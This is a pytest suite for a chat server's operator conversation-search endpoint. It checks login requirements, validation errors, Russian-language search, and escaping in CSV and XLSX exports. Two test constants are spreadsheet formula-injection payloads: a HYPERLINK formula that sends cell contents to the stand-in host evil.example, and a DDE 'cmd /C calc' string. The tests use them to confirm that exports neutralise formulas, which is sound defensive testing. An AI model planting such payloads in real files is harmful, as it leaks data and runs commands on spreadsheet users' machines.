"""`GET /api/operator/conversations` on a running sidecar: the session it needs, the 400s,
JSON pages, and the CSV and XLSX exports (BOM, formula escaping, the row cap)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from support.chat import Operator, ServerThread, open_reader, recv, send

from chat_server import conversation_search_api, export

PATH = "/api/operator/conversations"
DOC = Path(__file__).resolve().parents[2] / "docs" / "protocol.md"
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
EVIL_BODY = "+1+cmd|' /C calc'!A0 оплата"


async def reader_writes(server: ServerThread, body: str, **hello: Any) -> int:
    reader, _ = await open_reader(server.ws, **hello)
    await send(reader, "message", client_id="first", body=body)
    conversation_id = int((await recv(reader, "ack"))["conversation"]["id"])
    await reader.close()
    return conversation_id


async def test_search_needs_an_operator_session(server: ServerThread) -> None:
    anna = await Operator.login(server, "anna@example.com")
    await reader_writes(server, "Секретный вопрос про оплату")
    async with httpx.AsyncClient(base_url=server.http) as stranger:
        for query in ("?q=оплата", "?format=csv", "?format=xlsx"):
            answer = await stranger.get(PATH + query)
            assert answer.status_code == 401 and answer.json() == {"error": "login_required"}
    assert (await anna.client.get(PATH + "?q=оплата")).json()["total"] == 1
    await anna.close()


async def test_bad_parameters_are_400_with_their_name(server: ServerThread) -> None:
    anna = await Operator.login(server, "anna@example.com")
    bad = {
        "state=bogus": "bad_state", "limit=0": "bad_limit", "limit=101": "bad_limit",
        "limit=ten": "bad_limit", "offset=-1": "bad_offset", "from=2026-13-01": "bad_from",
        "from=20261201": "bad_from", "from=2026-12-05&to=2026-12-01": "bad_to",
        "to=9999-12-31": "bad_to", "rating=great": "bad_rating", "format=pdf": "bad_format",
        "operator=anna": "bad_operator", "operator=99999999999": "bad_operator",
        "q=" + "слово " * 40: "bad_q", "group=" + "g" * 65: "bad_group",
        "&".join(f"tag=t{n}" for n in range(6)): "bad_tag", "tag=" + "t" * 41: "bad_tag",
        "lang=de": "bad_lang", "group=a%00b": "bad_group", "tag=%0A": "bad_tag",
    }
    for query, code in bad.items():
        answer = await anna.client.get(f"{PATH}?{query}")
        assert (answer.status_code, answer.json()) == (400, {"error": code}), query
    assert (await anna.client.get(PATH + "?from=2026-12-01&to=2026-12-01")).status_code == 200
    await anna.close()


async def test_json_pages_with_word_forms_notes_and_filters(server: ServerThread) -> None:
    anna = await Operator.login(server, "anna@example.com")
    paid = await reader_writes(server, "Я оплатил заказ, а доступа нет", name="Олег")
    other = await reader_writes(server, "Как сменить пароль?")
    noted = await anna.post(f"{PATH}/{other}/note", body="Он же спрашивал про оплаты")
    assert noted.status_code == 201
    await anna.post(f"{PATH}/{paid}/assign")
    found = (await anna.client.get(PATH, params={"q": "оплата"})).json()
    assert found["total"] == 2 and not found["more"]
    # Newest activity first: the assignment came after the note.
    assert [hit["id"] for hit in found["hits"]] == [paid, other]
    by_id = {hit["id"]: hit for hit in found["hits"]}
    assert by_id[other]["snippet"]["internal"] is True
    assert by_id[paid]["reader"]["name"] == "Олег"
    assert by_id[paid]["operator"] == {"id": anna.me["id"], "name": "Анна"}
    assert by_id[paid]["first_message"] == "Я оплатил заказ, а доступа нет"

    async def ids(**params: Any) -> list[int]:
        answer = (await anna.client.get(PATH, params=params)).json()
        return [hit["id"] for hit in answer["hits"]]

    assert await ids(q="оплатой", operator=str(anna.me["id"])) == [paid]
    assert await ids(q="оплатой", operator="none") == [other]
    assert await ids(q="заказы доступ") == [paid]
    assert await ids(state="closed") == []
    page = (await anna.client.get(PATH, params={"limit": 1, "offset": 1})).json()
    assert page["total"] == 2 and [h["id"] for h in page["hits"]] == [other]
    today = datetime.now(UTC)  # the days are UTC days, and `to` is inclusive
    day, yesterday = f"{today:%Y-%m-%d}", f"{today - timedelta(days=1):%Y-%m-%d}"
    assert await ids(**{"from": day, "to": day}) == [paid, other]
    assert await ids(**{"to": yesterday}) == []
    await anna.close()


async def test_csv_has_a_bom_and_no_formulas(server: ServerThread) -> None:
    anna = await Operator.login(server, "anna@example.com")
    await reader_writes(server, EVIL_BODY, name=EVIL_NAME)
    await reader_writes(server, "Где чек?", name="Мария")
    answer = await anna.client.get(PATH, params={"q": "оплата", "format": "csv", "lang": "ru"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with it
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0] == list(export.HEADERS["ru"])
    [row] = rows[1:]  # the other conversation does not match
    assert row[1] == "'" + EVIL_NAME and row[-1] == "'" + EVIL_BODY
    assert datetime.strptime(row[8], "%Y-%m-%d %H:%M")
    everything = await anna.client.get(PATH, params={"format": "csv"})
    assert everything.headers["x-total-count"] == "2"
    assert "x-export-truncated" not in everything.headers
    assert len(list(csv.reader(io.StringIO(everything.text.lstrip("\ufeff"))))) == 3
    await anna.close()


async def test_xlsx_opens_with_openpyxl_and_holds_the_rows(server: ServerThread) -> None:
    anna = await Operator.login(server, "anna@example.com")
    first = await reader_writes(server, EVIL_BODY, name=EVIL_NAME)
    second = await reader_writes(server, "-2 списалось дважды\u0007", name="Мария")
    answer = await anna.client.get(PATH, params={"format": "xlsx"})
    assert answer.status_code == 200 and answer.headers["content-type"] == export.XLSX_TYPE
    assert answer.headers["content-disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    sheet = book.active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == list(export.HEADERS["en"])
    assert [row[0] for row in rows[1:]] == [second, first]
    assert rows[1][1] == "Мария" and rows[1][10] == "'-2 списалось дважды"
    assert rows[2][1] == "'" + EVIL_NAME and rows[2][10] == "'" + EVIL_BODY
    assert isinstance(rows[1][8], datetime) and isinstance(rows[1][9], datetime)
    # Nothing in the workbook is a formula a spreadsheet would run.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    await anna.close()


async def test_an_export_stops_at_the_cap_and_says_so(server: ServerThread,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "EXPORT_CAP", 2)
    anna = await Operator.login(server, "anna@example.com")
    for n in range(3):
        await reader_writes(server, f"Вопрос номер {n}")
    for fmt in ("csv", "xlsx"):
        answer = await anna.client.get(PATH, params={"format": fmt})
        assert answer.headers["x-export-truncated"] == "true"
        assert (answer.headers["x-total-count"], answer.headers["x-export-rows"]) == ("3", "2")
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
            rows = [[c.value for c in row] for row in sheet.iter_rows()]
        assert len(rows) == 4 and rows[-1][0].startswith("Only the first 2 of 3")
    await anna.close()


def test_the_documented_parameters_are_the_ones_read() -> None:
    text = DOC.read_text(encoding="utf-8")
    section = text[text.index("## Search across conversations"):]
    documented = set()
    for line in section.splitlines():
        if line.startswith("| `"):
            documented |= set(re.findall(r"`([a-z]+)`", line.split("|")[1]))
    assert documented == set(conversation_search_api.PARAMETERS)
    source = Path(conversation_search_api.__file__).read_text(encoding="utf-8")
    read = set(re.findall(r'params\.(?:get|getlist)\("([a-z]+)"', source))
    read |= set(re.findall(r'_(?:choice|text|day)\(params, "([a-z]+)"', source))
    assert read == set(conversation_search_api.PARAMETERS)
